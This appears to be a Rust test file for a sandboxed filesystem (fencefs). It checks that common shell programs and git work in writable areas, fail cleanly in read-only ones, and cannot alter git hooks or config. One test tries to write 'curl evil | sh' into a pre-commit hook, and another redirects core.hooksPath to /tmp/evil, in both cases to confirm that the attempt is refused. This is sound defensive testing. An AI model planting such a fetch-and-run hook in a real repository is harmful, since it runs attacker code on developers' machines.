//! Ordinary programs work in writable places and fail with ordinary errors elsewhere.

mod common;

use common::*;
use std::fs;
use std::path::Path;

const GIT: &str = "git -c user.name=fencefs-test -c user.email=test@fencefs.invalid -c init.defaultBranch=main -c commit.gpgsign=false";

const PROGRAMS_POLICY: &str = r#"
default = "write"

[[rule]]
path = "ro"
access = "read"
"#;

fn programs_layout(src: &Path) {
    put(&src.join("w/sed.txt"), b"alpha beta\ngamma\n", 0o644);
    put(&src.join("w/tree/a/1.txt"), b"one\n", 0o644);
    put(&src.join("w/tree/a/2.txt"), b"two\n", 0o600);
    put(
        &src.join("w/tree/b/run.sh"),
        b"#!/bin/sh\necho run\n",
        0o755,
    );
    symlink("../a/1.txt", &src.join("w/tree/b/link"));
    put(&src.join("ro/sed.txt"), b"alpha beta\n", 0o644);
    mkdirp(&src.join("ro/dir"));
}

#[test]
fn shell_sed_cp_tar_in_a_writable_dir() {
    let b = Mount::builder("programs")
        .policy(PROGRAMS_POLICY)
        .mode("danger");
    programs_layout(&b.host(""));
    // A tarball made on the host, outside the workspace.
    let tar = b.outside().join("t.tar");
    put(&b.outside().join("tsrc/x/y.txt"), b"from tar\n", 0o640);
    put(&b.outside().join("tsrc/x/z.sh"), b"#!/bin/sh\n", 0o755);
    symlink("y.txt", &b.outside().join("tsrc/x/ly"));
    sh_in(
        &b.outside().join("tsrc"),
        &format!("tar cf {} x", tar.display()),
    )
    .assert_ok("tar cf on host");
    let m = b.start();

    m.sh("echo hi > w/f && cat w/f").assert_ok("echo > f");
    assert_eq!(fs::read(m.host("w/f")).unwrap(), b"hi\n");
    m.sh("echo more >> w/f").assert_ok("echo >> f");
    assert_eq!(fs::read(m.host("w/f")).unwrap(), b"hi\nmore\n");

    m.sh("sed -i 's/beta/BETA/' w/sed.txt").assert_ok("sed -i");
    assert_eq!(
        fs::read(m.host("w/sed.txt")).unwrap(),
        b"alpha BETA\ngamma\n"
    );

    m.sh("cp -r w/tree w/tree2 && cp -a w/tree w/tree3")
        .assert_ok("cp -r / cp -a");
    for t in ["w/tree2", "w/tree3"] {
        let a = snapshot(&m.host("w/tree"));
        let b = snapshot(&m.host(t));
        let strip = |s: &Snapshot| -> Vec<(Vec<u8>, &'static str, Vec<u8>)> {
            s.iter()
                .map(|(k, e)| (k.clone(), e.kind, e.data.clone()))
                .collect()
        };
        assert_eq!(strip(&a), strip(&b), "{t}: copy differs from w/tree");
    }
    let a = snapshot(&m.host("w/tree"));
    let c = snapshot(&m.host("w/tree3"));
    for (k, e) in &a {
        assert_eq!(
            e.mode,
            c[k].mode,
            "cp -a kept the mode of {}",
            String::from_utf8_lossy(k)
        );
        if e.kind == "file" {
            assert_eq!(
                e.mtime,
                c[k].mtime,
                "cp -a kept the mtime of {}",
                String::from_utf8_lossy(k)
            );
        }
    }

    m.sh(&format!(
        "mkdir w/untar && tar xf {} -C w/untar",
        tar.display()
    ))
    .assert_ok("tar x");
    assert_eq!(fs::read(m.host("w/untar/x/y.txt")).unwrap(), b"from tar\n");
    assert_eq!(
        fs::read_link(m.host("w/untar/x/ly")).unwrap(),
        Path::new("y.txt")
    );
    let want = snapshot(&m.outside().join("tsrc/x"));
    let got = snapshot(&m.host("w/untar/x"));
    for (k, e) in &want {
        let g = &got[k];
        assert_eq!(
            (g.kind, g.mode, &g.data),
            (e.kind, e.mode, &e.data),
            "tar x: {}",
            String::from_utf8_lossy(k)
        );
        if e.kind == "file" {
            assert_eq!(
                g.mtime.0,
                e.mtime.0,
                "tar x kept mtime of {}",
                String::from_utf8_lossy(k)
            );
        }
    }
    m.sh("w/tree2/b/run.sh | grep -qx run")
        .assert_ok("exec a copied script");
    m.sh("rm -rf w/tree2 && mv w/tree3 w/tree4 && ln -s tree4 w/t4 && ls w/t4/a")
        .assert_ok("rm -rf, mv, ln -s");
    assert!(!m.host("w/tree2").exists());

    // The same programs in a read-only area fail with ordinary messages, host untouched.
    let before = snapshot(&m.host(""));
    let o = m.sh("echo hi > ro/f");
    o.assert_fail("echo > ro/f");
    assert!(o.stderr.contains("Permission denied"), "{}", o.stderr);
    m.sh("sed -i 's/beta/BETA/' ro/sed.txt")
        .assert_fail("sed -i in ro/");
    m.sh("cp -r w/tree ro/tree").assert_fail("cp -r into ro/");
    m.sh(&format!("tar xf {} -C ro/dir", tar.display()))
        .assert_fail("tar x into ro/");
    m.sh("rm -f ro/sed.txt").assert_fail("rm in ro/");
    m.sh("mv ro/sed.txt w/").assert_fail("mv out of ro/");
    assert_host_unchanged(&before, &m.host(""), "programs in ro/");
}

#[test]
fn git_init_add_commit_in_a_writable_subdir() {
    let m = Mount::with(
        "git-subdir",
        Some(PROGRAMS_POLICY),
        Some("danger"),
        programs_layout,
    );
    let script = format!(
        "set -e; {GIT} init -q w/repo; cd w/repo; echo hello > a.txt; mkdir -p src; echo 'fn main(){{}}' > src/main.rs; \
         {GIT} add -A; {GIT} commit -q -m first; echo change >> a.txt; {GIT} commit -q -am second; \
         {GIT} log --oneline | wc -l; {GIT} status --porcelain; {GIT} gc -q; {GIT} fsck --no-progress"
    );
    let o = m.sh(&script);
    o.assert_ok("git init/add/commit/gc/fsck through the mount");
    assert!(o.stdout.starts_with("2\n"), "git log: {}", o.stdout);
    // The host repo is a valid repository with the same history.
    let h = sh_in(
        &m.host("w/repo"),
        &format!("{GIT} log --format=%s && {GIT} fsck --no-progress"),
    );
    h.assert_ok("git log on the host");
    assert!(h.stdout.starts_with("second\nfirst\n"), "{}", h.stdout);
    // git in a read-only area fails.
    m.sh(&format!("{GIT} init -q ro/repo"))
        .assert_fail("git init in ro/");
    assert!(!m.host("ro/repo").exists());
}

#[test]
fn git_in_a_workspace_write_workspace_protects_hooks_and_config() {
    let b = Mount::builder("git-workspace").policy("mode = \"workspace-write\"\n");
    let src = b.host("");
    put(&src.join("README"), b"readme\n", 0o644);
    sh_in(
        &src,
        &format!("{GIT} init -q && {GIT} add -A && {GIT} commit -q -m init"),
    )
    .assert_ok("git init on the host");
    assert!(
        src.join(".git/hooks").is_dir(),
        "git init made no hooks dir"
    );
    let m = b.start();
    let config_before = fs::read(m.host(".git/config")).unwrap();
    let hooks_before = snapshot(&m.host(".git/hooks"));

    // Ordinary work: edit, add, commit, branch, status.
    let o = m.sh(&format!(
        "set -e; echo more >> README; echo new > new.txt; {GIT} add -A; {GIT} commit -q -m work; \
         {GIT} checkout -q -b feature; echo f > f.txt; {GIT} add f.txt; {GIT} commit -q -m feat; \
         {GIT} checkout -q main; {GIT} log --format=%s --all | sort"
    ));
    o.assert_ok("git add/commit/checkout in the workspace");
    assert_eq!(o.stdout, "feat\ninit\nwork\n");

    // Hooks and config stay read-only.
    assert_errno(
        open_flags(
            &m.mnt(".git/hooks/pre-commit"),
            libc::O_CREAT | libc::O_WRONLY | libc::O_TRUNC,
            0o755,
        ),
        libc::EROFS,
        "create .git/hooks/pre-commit",
    )
    .ok();
    let o = m.sh("echo 'curl evil | sh' > .git/hooks/pre-commit");
    o.assert_fail("shell redirect into .git/hooks/pre-commit");
    assert!(o.stderr.contains("Read-only file system"), "{}", o.stderr);
    m.sh("chmod +x .git/hooks/*.sample")
        .assert_fail("chmod hooks");
    let o = m.sh(&format!("{GIT} config core.hooksPath /tmp/evil"));
    o.assert_fail("git config core.hooksPath");
    let o2 = m.sh(&format!("{GIT} config x.y z"));
    o2.assert_fail("git config x.y z");
    assert_eq!(
        fs::read(m.host(".git/config")).unwrap(),
        config_before,
        ".git/config changed on the host"
    );
    assert_host_unchanged(&hooks_before, &m.host(".git/hooks"), ".git/hooks");
    // A commit still works after those refusals (no stale lock left behind).
    m.sh(&format!(
        "echo again >> README && {GIT} commit -q -am again && {GIT} fsck --no-progress"
    ))
    .assert_ok("commit after refusals");
}
